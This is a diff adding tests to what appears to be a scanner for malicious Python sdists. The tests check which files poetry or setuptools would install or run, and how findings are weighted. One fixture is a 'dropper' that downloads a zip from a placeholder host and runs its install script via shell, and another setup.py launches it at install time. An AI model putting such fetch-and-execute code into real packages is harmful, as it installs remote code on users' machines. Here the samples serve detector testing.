@@ -537,6 +537,53 @@ def test_plain_folders_load_only_where_the_build_backend_may_install_them() -> N
     assert len(_import_time(with_setup)) == 3
 
 
+def test_lone_top_level_modules_load_only_where_the_build_backend_may_install_them() -> None:
+    """pytest-httpserver's poetry sdist ships example.py at its root; poetry installs only the
+    package (and what its configuration names), so the example's module-level request is not
+    import-time code. setuptools may list it in py_modules."""
+    files = {
+        "pyproject.toml": '[build-system]\nbuild-backend = "poetry.core.masonry.api"\n',
+        "demo/__init__.py": _PHONE,
+        "example.py": _PHONE,
+    }
+    assert _import_time(files) == {"demo-1.0/demo/__init__.py"}
+    named = {**files, "pyproject.toml": files["pyproject.toml"] + '[tool.poetry]\ninclude = ["example.py"]\n'}
+    assert _import_time(named) == {"demo-1.0/demo/__init__.py", "demo-1.0/example.py"}
+    with_setup = {**files, "setup.py": "from setuptools import setup\nsetup()\n"}
+    assert len(_import_time(with_setup)) == 2
+
+
+def test_findings_in_sdist_files_no_build_installs_weigh_as_not_run() -> None:
+    """pyopengl's sdist keeps maintainer scripts (download a toolkit, unpack it) in a src/
+    folder beside its package; setuptools installs only what top_level.txt lists."""
+    dropper = (
+        "import subprocess, urllib.request\n"
+        "def fetch():\n"
+        "    urllib.request.urlretrieve('http://x.invalid/t.zip', 't.zip')\n"
+        "    subprocess.check_call('unzip t.zip && ./t/install.sh', shell=True)\n"
+    )
+    installed = {
+        "setup.py": "from setuptools import setup\nsetup()\n",
+        "demo/__init__.py": "",
+        "demo/get.py": dropper,
+    }
+    left = {**installed, "demo.egg-info/top_level.txt": "demo\n", "src/get.py": dropper}
+    left.pop("demo/get.py")
+    inside = analyze_bytes(make_sdist(installed), "demo-1.0.tar.gz").result
+    beside = analyze_bytes(make_sdist(left), "demo-1.0.tar.gz").result
+    assert inside.findings
+    assert beside.findings
+    assert beside.score < inside.score
+    weights = {f.rule: f.score for f in inside.findings}
+    assert all(f.score < weights[f.rule] for f in beside.findings if f.rule in weights)
+    # a file that setup.py names may run while installing: weighed as before
+    runs = {**left, "setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'src/get.py'])\n"}
+    named = analyze_bytes(make_sdist(runs), "demo-1.0.tar.gz").result
+    got = {f.rule: f.score for f in named.findings if f.path == "demo-1.0/src/get.py"}
+    assert got
+    assert all(score >= weights[rule] * 0.8 for rule, score in got.items() if rule in weights)
+
+
 def test_a_dotted_module_name_never_loads_on_import() -> None:
     files = {"demo/__init__.py": "RUN = 'tables.v2.py'\n", "demo/tables.v2.py": _PHONE}
     assert _import_time(files) == set()
